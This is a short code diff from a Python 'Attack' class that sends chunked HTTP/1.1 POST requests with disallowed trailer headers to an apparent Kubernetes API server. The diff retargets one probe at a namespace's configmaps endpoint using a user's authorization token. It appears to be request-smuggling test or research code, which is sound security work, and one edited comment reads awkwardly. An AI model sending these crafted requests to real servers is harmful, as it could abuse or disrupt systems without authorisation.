@@ -475,11 +475,12 @@ class Attack:
     async def h1_chunked(self):
         await self.over_http1(120, self.head("POST /version", "Transfer-Encoding: chunked"))
 
-    # S1: requests that are complete, with trailers that HTTP/2 has no place for.
+    # S1: requests that are complete, with trailers that HTTP/2 has no place for. The API server reads their bodies to the end: it
+    # answers a POST to /version before, which ends any request.
 
     async def s1_trailers(self):
         names = ("Connection", "TE", "Transfer-Encoding", "Upgrade", "Keep-Alive", "Proxy-Connection")
-        head = self.head("POST /version", f"Authorization: {self.bob()[1]}", "Transfer-Encoding: chunked")
+        head = self.head(f"POST {NAMESPACE}/configmaps", f"Authorization: {self.bob()[1]}", "Transfer-Encoding: chunked")
         requests = [head + f"1\r\nx\r\n0\r\n{name}: close\r\n\r\n".encode() for name in names]
         await asyncio.gather(*(self.over_http1(75, request, request) for request in requests))
 
